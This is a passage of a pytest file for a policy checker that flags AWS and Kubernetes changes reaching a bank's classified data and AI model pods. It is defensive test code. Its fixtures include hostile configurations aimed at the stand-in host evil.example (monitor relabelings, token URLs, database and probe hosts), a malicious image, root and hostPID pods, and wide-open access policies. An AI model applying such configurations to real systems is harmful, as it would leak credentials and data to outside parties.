    "generated-name": other("aws:s3/inventory:Inventory", bucket="bank-frankfurt-bucket-0a1b2c3"),
    "unheard-of": other("aws:timestreaminfluxdb/dbInstance:DbInstance", vpcSubnetIds=[SUBNET]),
}


@pytest.mark.parametrize("row", AWS_TYPES, ids=list(AWS_TYPES))
def test_b21_a_type_in_reach_of_classified_data_is_undecided_unless_trusted(row: str):
    def findings(settings: Settings | None = None) -> list[Any]:
        return [
            f for f in stops(AWS_TYPES[row], settings=settings) if f.policy == "data-path/known-aws-types"
        ]

    assert [(finding.severity, finding.verdict) for finding in findings()] == [("critical", "undecided")]
    assert findings(trusting(AWS_TYPES[row].type)) == []
    assert findings(trusting(objects=["added"])) == [], "exactly this resource"
    assert findings(trusting(objects=["add*"]))


def test_b21_one_resource_is_proposed_by_its_name_and_several_by_their_type():
    first, second = (replace(AWS_TYPES["lambda"], name=name, urn=f"urn:{name}") for name in ("one", "two"))
    assert proposed(first) >= {("objects", "one")}
    assert not {value for kind, value in proposed(first) if kind == "resource_types"}
    assert ("resource_types", first.type) in proposed(first, second)


def test_b21_what_refers_to_something_in_reach_is_in_reach():
    role = other("aws:iam/role:Role", "reader", permissionsBoundary="${bank-frankfurt-bucket.arn}")
    function = other("aws:lambda/function:Function", "function", role="${reader.arn}")
    found = {f.resource for f in stops(role, function) if f.policy == "data-path/known-aws-types"}
    assert found == {"function"}


AWS_ENDS = {
    "second-vpn": other(
        "aws:ec2/vpnConnection:VpnConnection",
        transitGatewayId=TRANSIT,
        customerGatewayId="cgw-0123456789abcdef0",
    ),
    "attachment": other(
        "aws:ec2transitgateway/vpcAttachment:VpcAttachment",
        transitGatewayId=TRANSIT,
        vpcId="vpc-0123456789abcdef0",
    ),
    "attachment-elsewhere": other(
        "aws:ec2transitgateway/vpcAttachment:VpcAttachment",
        transitGatewayId="tgw-0123456789abcdef0",
        vpcId=VPC,
    ),
    "route-to-a-literal-gateway": other(
        "aws:ec2/route:Route",
        routeTableId=TABLE,
        destinationCidrBlock="10.9.0.0/16",
        gatewayId="igw-0123456789",
    ),
    "route-to-a-gateway": other(
        "aws:ec2/route:Route", routeTableId=TABLE, destinationCidrBlock="10.40.0.0/16", natGatewayId="nat-1"
    ),
    "route-to-a-machine": other(
        "aws:ec2/route:Route",
        routeTableId=TABLE,
        destinationCidrBlock="10.40.9.0/24",
        networkInterfaceId="eni-1",
    ),
    "inline-route": other(
        "aws:ec2/routeTable:RouteTable",
        vpcId=VPC,
        routes=[{"cidrBlock": "10.40.0.0/16", "gatewayId": "igw-1"}],
    ),
    "public-range": other(
        "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
        securityGroupId=GROUP,
        cidrIpv4="52.0.0.0/8",
    ),
    "half-of-the-internet": other(
        "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule", securityGroupId=GROUP, cidrIpv4="0.0.0.0/1"
    ),
    "public-range-of-a-group": other(
        "aws:ec2/securityGroup:SecurityGroup", vpcId=VPC, ingress=[{"cidrBlocks": ["52.0.0.0/8"]}]
    ),
    "dns-forward": other(
        "aws:route53/resolverRule:ResolverRule",
        resolverEndpointId="${bank-fra1-frankfurt-outbound.id}",
        targetIps=[{"ip": "8.8.8.8"}],
    ),
    "private-link": other(
        "aws:ec2/vpcEndpoint:VpcEndpoint",
        vpcId=VPC,
        vpcEndpointType="Interface",
        serviceName="com.amazonaws.vpce.eu-central-1.vpce-svc-0123456789abcdef0",
    ),
    "efs-policy": other(
        "aws:efs/fileSystemPolicy:FileSystemPolicy",
        fileSystemId=BUCKET,
        policy='{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*"}]}',
    ),
    "bucket-copy": other(
        "aws:s3/bucket:Bucket", tags={"isthmus.dev/class": "internal"}, replicationConfiguration={"role": "r"}
    ),
    "public-machines": other(
        "aws:ec2/launchTemplate:LaunchTemplate",
        vpcSecurityGroupIds=[GROUP],
        networkInterfaces=[{"associatePublicIpAddress": "true"}],
    ),
}


@pytest.mark.parametrize("row", AWS_ENDS, ids=list(AWS_ENDS))
def test_b21_a_known_type_with_another_end_is_critical(row: str):
    findings = [f for f in stops(AWS_ENDS[row]) if f.policy == "data-path/known-other-ends"]
    assert {(finding.severity, finding.verdict) for finding in findings} == {("critical", "violated")}


def test_b21_a_trusted_range_passes():
    entry = {"value": "52.10.0.0/16", "reason": "our provider's", "owner": "ana@bank.example"}
    trusted = Settings(trust=Trust.model_validate({"address_ranges": [entry]}))
    added = replace(AWS_ENDS["public-range"], inputs={"securityGroupId": GROUP, "cidrIpv4": "52.10.1.0/24"})
    policies = {finding.policy for finding in stops(added, settings=trusted)}
    assert "data-path/known-other-ends" not in policies


OUTSIDE = {
    "bucket": other("aws:s3/bucket:Bucket", "own", bucket="team-files"),
    "parameter": other("aws:ssm/parameter:Parameter", "own", type="String", value="runbook"),
    "table": other("aws:dynamodb/table:Table", "own"),
}


@pytest.mark.parametrize("row", OUTSIDE, ids=list(OUTSIDE))
def test_b21_what_does_not_refer_to_classified_data_is_not_judged_by_its_type(row: str):
    policies = {finding.policy for finding in stops(OUTSIDE[row])}
    assert policies.isdisjoint({"data-path/known-aws-types", "data-path/known-other-ends"})


ORDINARY = {
    "storage-class": kube(
        "storage.k8s.io/v1:StorageClass",
        "fast",
        None,
        provisioner="ebs.csi.aws.com",
        parameters={"type": "gp3", "encrypted": "true"},
    ),
    "partial-patch": kube(
        "apps/v1:DaemonSetPatch",
        "agent",
        "team",
        spec={
            "template": {"spec": {"containers": [{"name": "agent", "env": [{"name": "A", "value": "b"}]}]}}
        },
    ),
    "image-patch": kube(
        "apps/v1:DeploymentPatch",
        "app",
        "team",
        spec={"template": {"spec": {"containers": [{"name": "main", "image": DIGEST}]}}},
    ),
}


@pytest.mark.parametrize("row", ORDINARY, ids=list(ORDINARY))
def test_an_ordinary_addition_outside_the_classes_passes(row: str):
    assert stops(ORDINARY[row]) == []


WEAKENED = {
    "right": {"containers": [{"name": "agent", "securityContext": {"allowPrivilegeEscalation": True}}]},
    "root": {"securityContext": {"runAsNonRoot": False, "runAsUser": 0}},
    "image": {"containers": [{"name": "agent", "image": "docker.io/evil/agent:latest"}]},
    "host": {"containers": [], "hostPID": True},
}


@pytest.mark.parametrize("row", WEAKENED, ids=list(WEAKENED))
def test_what_a_partial_patch_outside_the_classes_states_is_judged(row: str):
    spec = {"containers": [{"name": "agent"}], **WEAKENED[row]}
    assert stops(kube("apps/v1:DaemonSetPatch", "agent", "team", spec={"template": {"spec": spec}}))


@pytest.mark.parametrize(
    ("name", "provisioner", "parameters"),
    [
        ("fast", "ebs.csi.aws.com", {"driver": "elsewhere"}),
        ("fast", "nfs.csi.k8s.io", {"server": "evil.example"}),
    ],
)
def test_a_storage_class_that_may_store_elsewhere_is_undecided(
    name: str, provisioner: str, parameters: dict[str, str]
):
    about = {"provisioner": provisioner, "parameters": parameters, "metadata": DEFAULT_CLASS}
    added = kube("storage.k8s.io/v1:StorageClass", name, None, **about)
    assert {finding.policy for finding in stops(added)} == {"data-path/known-kinds"}


MIRROR_STORAGE = kube(
    "storage.k8s.io/v1:StorageClass",
    "mirror-blocks",
    None,
    provisioner="csi.trident.netapp.io",
    parameters={"backendType": "ontap-san"},
)
KINDS_RULE = known_kinds.RULES[0]


def on_mirror_storage(storage: str | None, namespace: str = RESTRICTED) -> Resource:
    """A claim for a volume of this storage class."""
    return kube("core/v1:PersistentVolumeClaim", "files", namespace, spec={"storageClassName": storage})


def judged_kinds(*added: Resource) -> list[str]:
    subject = Subject(Graph([*rendered().resources, *added]), platform())
    return [violation.message for violation in KINDS_RULE.check(subject)]


def test_a_storage_class_that_no_class_uses_passes():
    assert judged_kinds(MIRROR_STORAGE, on_mirror_storage("mirror-blocks", "registry-mirror")) == []


def templated(**spec: Any) -> Resource:
    return kube("apps/v1:StatefulSet", "cache", spec=spec)


USES = {
    "claim": on_mirror_storage("mirror-blocks"),
    "reference": on_mirror_storage("${mirror-blocks.metadata.name}"),
    "unknown-name": on_mirror_storage("${elsewhere.name}"),
    "unknown-namespace": on_mirror_storage("mirror-blocks", "${elsewhere.name}"),
    "stateful-set": templated(volumeClaimTemplates=[{"spec": {"storageClassName": "mirror-blocks"}}]),
    "volume": kube("core/v1:PersistentVolume", "files", None, spec={"storageClassName": "mirror-blocks"}),
    "chart": release("db", namespace=RESTRICTED, values={}),
    "values": release("db", namespace="team", values={"storageClass": "mirror-blocks"}),
}


@pytest.mark.parametrize("row", USES, ids=list(USES))
def test_a_storage_class_that_a_class_may_use_is_undecided(row: str):
    assert any("csi.trident.netapp.io" in message for message in judged_kinds(MIRROR_STORAGE, USES[row]))


@pytest.mark.parametrize("value", ["true", "${elsewhere.default}"])
def test_a_default_storage_class_is_undecided(value: str):
    metadata = {
        "name": "mirror-blocks",
        "annotations": {"storageclass.kubernetes.io/is-default-class": value},
    }
    added = replace(MIRROR_STORAGE, inputs={**MIRROR_STORAGE.inputs, "metadata": metadata})
    assert any("csi.trident.netapp.io" in message for message in judged_kinds(added))


def test_settings_of_nodes_and_networks_in_kube_system_are_undecided():
    assert stops(kube("core/v1:ConfigMap", "aws-auth", "kube-system", data={"a": "b"}))


def test_a_type_in_a_module_called_like_a_word_of_python_is_read():
    assert bears_tags("aws:lambda/function:Function")


OWN_CONTENTS = pod_contents.RULES[0]
ASKED = next(rule for rule in known_kinds.RULES if rule.id == "data-path/nobody-else-is-asked")
CALLERS_RULE = entrances.RULES[0]
SETTINGS_RULE = own_settings.RULES[0]
VOLUMES_RULE = next(rule for rule in known_kinds.RULES if rule.id == "data-path/volumes-stay-inside")
NO_HOST = next(rule for rule in hardening.RULES if rule.id == "workload/no-host")


def edited(name: str, **changes: Any) -> list[Resource]:
    """The bank's resources, with fields of one pod's template, spec or first container set."""
    resources = []
    for resource in rendered().resources:
        if resource.type.endswith(":Deployment") and resource.inputs["metadata"]["name"] == name:
            resource = copy.deepcopy(resource)
            template = resource.inputs["spec"]["template"]
            for key, value in changes.get("meta", {}).items():
                template["metadata"].setdefault(key, {}).update(value)
            template["spec"].update(changes.get("spec", {}))
            template["spec"]["containers"][0].update(changes.get("container", {}))
            for key, entry in changes.get("more", {}).items():
                template["spec"].setdefault(key, []).append(entry)
        resources.append(resource)
    return resources


_FIRST: dict[str, Any] = deployment_spec()["template"]["spec"]["containers"][0]
CONTENTS: dict[str, dict[str, Any]] = {
    "network": {"meta": {"annotations": {"k8s.v1.cni.cncf.io/networks": "default/macvlan"}}},
    "mesh": {"meta": {"labels": {"sidecar.istio.io/inject": "true"}}},
    "telemetry": {"meta": {"annotations": {"instrumentation.opentelemetry.io/inject-python": "true"}}},
    "container": {"more": {"containers": _FIRST}},
    "first-container": {"more": {"initContainers": {**_FIRST, "restartPolicy": "Always"}}},
    "command": {"container": {"command": ["sh", "-c", "cat"]}},
    "program": {"container": {"command": ["python", "-m", "edge.copy"]}},
    "arguments": {"container": {"args": ["--config", "/tmp/other.yaml"]}},
    "message": {"container": {"terminationMessagePath": "/etc/isthmus/callers/password"}},
    "hook": {"container": {"lifecycle": {"preStop": {"exec": {"command": ["sh"]}}}}},
    "probe": {"container": {"livenessProbe": {"httpGet": {"host": "evil.example", "port": 80}}}},
    "probe-command": {"container": {"livenessProbe": {"exec": {"command": ["sh", "-c", "cat"]}}}},
    "variable": {"container": {"env": [{"name": "VLLM_PLUGINS", "value": "evil"}]}},
    "variables": {"container": {"envFrom": [{"configMapRef": {"name": "other"}}]}},
    "share": {"more": {"volumes": {"name": "x", "nfs": {"server": "10.40.0.99", "path": "/x"}}}},
    "driver": {"more": {"volumes": {"name": "x", "csi": {"driver": "s3.csi.aws.com"}}}},
    "made-volume": {"more": {"volumes": {"name": "x", "ephemeral": {"volumeClaimTemplate": {}}}}},
    "runtime": {"spec": {"runtimeClassName": "kata-remote"}},
    "node": {"spec": {"nodeName": "evil"}},
    "scheduler": {"spec": {"schedulerName": "evil"}},
    "address": {"more": {"hostAliases": {"ip": "10.40.0.2", "hostnames": ["db.bank.example"]}}},
}


@pytest.mark.parametrize("row", CONTENTS, ids=list(CONTENTS))
def test_what_isthmus_never_makes_in_a_classs_own_pod_is_undecided(row: str):
    # The arguments of vLLM have a rule of their own.
    for name in ("restricted-gateway", *([] if row == "arguments" else ["restricted-qwen3-32b"])):
        graph = Graph(edited(name, **CONTENTS[row]))
        assert {v.verdict for v in OWN_CONTENTS.check(Subject(graph, platform()))} == {"undecided"}, name


def test_an_own_workload_in_a_classs_namespace_needs_an_entry_and_other_rules_still_judge_it():
    job = kube("batch/v1:Job", "ca-expiry", "isthmus-internal", spec=deployment_spec())
    about = {"reason": "reviewed", "owner": "ana@bank.example"}
    entries = {"objects": [{"value": "isthmus-internal/ca-expiry", **about}]}
    trusted = Settings(trust=Trust.model_validate(entries))
    stated = "data-path/stated-workloads"
    assert stated in {finding.policy for finding in stops(job)}
    assert stated not in {finding.policy for finding in stops(job, settings=trusted)}
    elsewhere = kube("batch/v1:Job", "ca-expiry", RESTRICTED, spec=deployment_spec())
    assert stated in {finding.policy for finding in stops(elsewhere, settings=trusted)}


@pytest.mark.parametrize(
    ("variable", "value", "trusted", "expected"),
    [
        ("VLLM_LOGGING_LEVEL", "WARNING", [], []),
        ("VLLM_LOGGING_LEVEL", "DEBUG", [], ["undecided"]),
        ("NCCL_DEBUG", "WARN", [], ["undecided"]),
        ("NCCL_DEBUG", "WARN", ["NCCL_DEBUG"], []),
    ],
)
def test_a_variable_of_vllm_is_known_or_trusted(
    variable: str, value: str, trusted: list[str], expected: list[str]
):
    about = {"reason": "reviewed", "owner": "ana@bank.example"}
    flags = [{"value": name, **about} for name in trusted]
    settings = Settings(trust=Trust.model_validate({"engine_flags": flags}))
    graph = Graph(edited("restricted-qwen3-32b", container={"env": [{"name": variable, "value": value}]}))
    subject = Subject(graph, platform(), settings, today=TODAY)
    assert [violation.verdict for violation in OWN_CONTENTS.check(subject)] == expected


def test_the_banks_own_pods_contain_what_isthmus_makes_with_and_without_a_platform():
    graph = Graph(rendered().resources)
    assert list(OWN_CONTENTS.check(Subject(graph, platform()))) == []
    assert list(OWN_CONTENTS.check(Subject(graph))) == []


ADMIN = {"devices": {"requests": [{"name": "g", "exactly": {"adminAccess": True}}]}}
DEVICES = {
    "claim": kube("resource.k8s.io/v1:ResourceClaim", "admin", "team", spec=ADMIN),
    "template": kube("resource.k8s.io/v1:ResourceClaimTemplate", "admin", RESTRICTED, spec={"spec": ADMIN}),
    "variable": kube(
        "core/v1:Pod",
        "gpus",
        "team",
        spec={
            **POD,
            "containers": [{**_FIRST, "env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]}],
        },
    ),
    "host-driver": kube(
        "core/v1:Pod",
        "files",
        "team",
        spec={**POD, "volumes": [{"name": "h", "csi": {"driver": "hostpath.csi.k8s.io"}}]},
    ),
}


@pytest.mark.parametrize("row", DEVICES, ids=list(DEVICES))
def test_devices_and_folders_of_other_pods_stay_theirs(row: str):
    subject = Subject(Graph([DEVICES[row]]), None)
    assert [violation.resource for violation in NO_HOST.check(subject)] == [DEVICES[row]]


def pod_monitor(namespace: str = RESTRICTED, spec: dict[str, Any] | None = None, **endpoint: Any) -> Resource:
    endpoints = [{"port": "metrics", **endpoint}]
    return kube(
        "monitoring.coreos.com/v1:PodMonitor",
        "more",
        namespace,
        spec={"selector": {}, "podMetricsEndpoints": endpoints, **(spec or {})},
    )


def scaled(kind: str = "prometheus", namespace: str = RESTRICTED, **trigger: Any) -> Resource:
    asked = {"serverAddress": "https://prometheus.evil.example", "query": "up", "threshold": "1"}
    return kube(
        "keda.sh/v1alpha1:ScaledObject",
        "more",
        namespace,
        spec={
            "scaleTargetRef": {"name": "restricted-qwen3-32b"},
            "triggers": [{"type": kind, "metadata": asked, **trigger}],
        },
    )


_AWAY = [{"targetLabel": "__address__", "replacement": "evil.example:443"}]
OTHER_READERS = {
    "address": pod_monitor(relabelings=_AWAY),
    "address-by-map": pod_monitor(relabelings=[{"action": "labelmap", "regex": "x_(.*)"}]),
    "path": pod_monitor(path="/v1/models"),
    "bearer": pod_monitor(
        authorization={"credentials": {"name": "restricted-gateway-tls", "key": "tls.key"}}
    ),
    "password": pod_monitor(basicAuth={"password": {"name": "restricted-callers", "key": "k"}}),
    "login": pod_monitor(oauth2={"tokenUrl": "https://evil.example"}),
    "certificate": pod_monitor(tlsConfig={"keySecret": {"name": "restricted-gateway-tls", "key": "tls.key"}}),
    "from-elsewhere": pod_monitor(
        "monitoring", {"namespaceSelector": {"matchNames": [RESTRICTED]}}, path="/v1/models"
    ),
    "from-everywhere": pod_monitor("monitoring", {"namespaceSelector": {"any": True}}, relabelings=_AWAY),
    "database": scaled("postgresql", metadata={"host": "evil.example", "passwordFromEnv": "PGPASSWORD"}),
    "api": scaled("metrics-api", metadata={"url": "https://evil.example"}),
    "other-prometheus": scaled(),
    "header": scaled(metadata={"serverAddress": "x", "customHeaders": "a=b"}),
}


@pytest.mark.parametrize("row", OTHER_READERS, ids=list(OTHER_READERS))
def test_a_monitor_or_a_scaler_that_asks_elsewhere_is_undecided(row: str):
    graph = Graph([namespace_of_class("restricted", RESTRICTED), OTHER_READERS[row]])
    assert {violation.verdict for violation in ASKED.check(Subject(graph, platform()))} == {"undecided"}


@pytest.mark.parametrize(
    "added",
    [
        pod_monitor(interval="30s", relabelings=[{"targetLabel": "team", "replacement": "risk"}]),
        pod_monitor("team", path="/other"),
        scaled("cpu", metadata={"value": "60"}),
        scaled("postgresql", "team"),
    ],
)
def test_a_monitor_or_a_scaler_that_reads_numbers_only_passes(added: Resource):
    graph = Graph([namespace_of_class("restricted", RESTRICTED), added])
    assert list(ASKED.check(Subject(graph, platform()))) == []


MODEL_PODS = {"matchLabels": {"isthmus.dev/endpoint": "restricted-qwen3-32b"}}


@pytest.mark.parametrize("selector", [MODEL_PODS, {}])
@pytest.mark.parametrize(
    "peer",
    [
        namespaced(matchLabels={"kubernetes.io/metadata.name": "reviewers"}),
        namespaced(matchLabels={"isthmus.dev/class": "restricted"}),
        {"ipBlock": {"cidr": "10.40.0.0/16"}},
    ],
)
def test_stated_callers_reach_the_gateway_and_no_model(peer: dict[str, Any], selector: dict[str, Any]):
    def verdicts(chosen: dict[str, Any]) -> set[str]:
        graph = Graph([*rendered().resources, lets_in(peer, selector=chosen)])
        return {violation.verdict for violation in CALLERS_RULE.check(Subject(graph, platform()))}

    assert verdicts(selector) == {"violated"}
    assert verdicts(GATEWAY_PODS) == set()


@pytest.mark.parametrize(
    "block",
    ["${eip.publicIp}/32", "${bank-restricted-qwen3-32b-service.clusterIP}/0", "${text.result}"],
)
def test_a_range_that_only_the_cloud_will_know_is_undecided(block: str):
    text = other("random:index/randomString:RandomString", "text", length=9)
    address = other("aws:ec2/eip:Eip", "eip")
    graph = Graph([*rendered().resources, text, address, lets_in({"ipBlock": {"cidr": block}})])
    found = list(CALLERS_RULE.check(Subject(graph, platform())))
    assert {violation.verdict for violation in found} == {"undecided"}


_THEIRS = volume(
    nfs={"server": "10.40.0.77", "path": "/records"}, claimRef={"namespace": RESTRICTED, "name": "records"}
)


def claim(**spec: Any) -> Resource:
    return kube("core/v1:PersistentVolumeClaim", "copy", "team", spec=spec)


OTHERS_VOLUMES = {
    "same-server": volume(nfs={"server": "10.40.0.77", "path": "/"}),
    "named-like-a-class": volume(nfs={"server": "10.9.9.9", "path": "/exports/isthmus-restricted"}),
    "stated-host": volume(nfs={"server": "10.40.0.9", "path": "/x"}, claimRef={"namespace": "team"}),
    "handle": volume(csi={"driver": "x", "volumeHandle": "pvc-restricted-gateway"}),
    "processes": volume(
        local={"path": "/proc/1/root/restricted"}, claimRef={"namespace": RESTRICTED, "name": "c"}
    ),
    "clone": claim(dataSourceRef={"kind": "PersistentVolumeClaim", "name": "r", "namespace": RESTRICTED}),
    "claim": claim(volumeName="volume"),
}


@pytest.mark.parametrize("row", OTHERS_VOLUMES, ids=list(OTHERS_VOLUMES))
def test_a_volume_outside_the_classes_that_may_show_theirs_stops_the_change(row: str):
    added = replace(OTHERS_VOLUMES[row], urn=OTHERS_VOLUMES[row].urn + "-added")
    graph = Graph([namespace_of_class("restricted", RESTRICTED), _THEIRS, added])
    found = list(VOLUMES_RULE.check(Subject(graph, platform())))
    assert added in [violation.resource for violation in found]


def test_a_teams_own_share_and_claim_pass():
    share = volume(nfs={"server": "10.9.9.9", "path": "/team"}, claimRef={"namespace": "team", "name": "c"})
    graph = Graph([namespace_of_class("restricted", RESTRICTED), share, claim(volumeName="volume")])
    assert list(VOLUMES_RULE.check(Subject(graph, platform()))) == []


def with_settings(name: str, **changes: Any) -> list[Resource]:
    """The bank's resources, with other settings of one edge program; a part that is a map is merged."""
    resources = []
    for resource in rendered().resources:
        if resource.type.endswith(":ConfigMap") and resource.name == name:
            settings = yaml_files.loads(resource.inputs["data"]["config.yaml"]).data
            for part, value in changes.items():
                settings[part] = {**settings.get(part, {}), **value} if isinstance(value, dict) else value
            resource = copy.deepcopy(resource)
            resource.inputs["data"]["config.yaml"] = json.dumps(settings)
        resources.append(resource)
    return resources


_GATEWAY, _REVIEWS = "bank-fra1-restricted-gateway-config", "bank-fra1-restricted-reviews-config"
_EVE = {"name": "eve", "client": "eve.apps.svc", "domains": ["financial-crime"]}
OTHER_SETTINGS: dict[str, tuple[str, dict[str, Any]]] = {
    "database": (_GATEWAY, {"database": {"host": "postgres.evil.bank.example"}}),
    "database-of-reviews": (_REVIEWS, {"database": {"host": "postgres.evil.bank.example"}}),
    "port": (_GATEWAY, {"database": {"port": 6543}}),
    "database-name": (_GATEWAY, {"database": {"name": "other"}}),
    "user": (_GATEWAY, {"database": {"user": "reviews"}}),
    "user-of-reviews": (_REVIEWS, {"database": {"user": "gateway"}}),
    "reviewer": (_REVIEWS, {"reviewers": [_EVE]}),
    "caller": (_GATEWAY, {"workloads": [{"name": "transaction-narratives", "clients": ["eve.apps.svc"]}]}),
    "proxy": (_GATEWAY, {"routes": [{"workload": "x", "proxy": "http://10.40.0.80:3128"}]}),
    "authority": (_GATEWAY, {"listen": {"client_ca": "/tmp/ca.crt"}}),
    "records-key": (_GATEWAY, {"audit": {"site_key": "/tmp/key"}}),
    "traces": (_GATEWAY, {"traces": [{"endpoint": "https://10.40.0.99:4318"}]}),
    "people": (_GATEWAY, {"tokens": {"issuer": "https://evil.example", "workloads": []}}),
}


@pytest.mark.parametrize("row", OTHER_SETTINGS, ids=list(OTHER_SETTINGS))
def test_settings_that_the_platform_does_not_state_are_critical(row: str):
    name, changes = OTHER_SETTINGS[row]
    found = list(SETTINGS_RULE.check(Subject(Graph(with_settings(name, **changes)), platform())))
    assert [(v.verdict, v.resource.name if v.resource else "") for v in found] == [("violated", name)]


@pytest.mark.parametrize("part", ["routes", "also", "guards"])
def test_a_server_that_shows_another_name_than_the_called_one_is_critical(part: str):
    server = {"url": "https://llama.isthmus-restricted.svc:8443", "server_name": "evil.isthmus-public.svc"}
    changes = {
        "routes": {"routes": [{"workload": "x", **server}]},
        "also": {"routes": [{"workload": "x", "also": [server]}]},
        "guards": {"routes": [], "screening": {"guards": [{"name": "g", "model": server}]}},
    }[part]
    found = SETTINGS_RULE.check(Subject(Graph(with_settings(_GATEWAY, **changes)), platform()))
    assert [v.message for v in found if "believes a certificate of evil.isthmus-public.svc" in v.message]


@pytest.mark.parametrize(
    ("host", "by_replica", "accepted"),
    [("llama-replicas", True, True), ("llama-replicas", False, False), ("other-replicas", True, False)],
)
def test_only_the_name_that_lists_the_replicas_of_a_server_may_show_its_certificate(
    host: str, by_replica: bool, accepted: bool
):
    server = {"url": f"https://{host}.isthmus-internal.svc:8443", "server_name": "llama.isthmus-internal.svc"}
    changes = {"routes": [{"workload": "x", **server, "by_replica": by_replica}]}
    found = SETTINGS_RULE.check(Subject(Graph(with_settings(_GATEWAY, **changes)), platform()))
    assert any("believes a certificate" in v.message for v in found) is not accepted


def test_the_banks_own_settings_are_those_of_its_platform():
    assert list(SETTINGS_RULE.check(Subject(Graph(rendered().resources), platform()))) == []
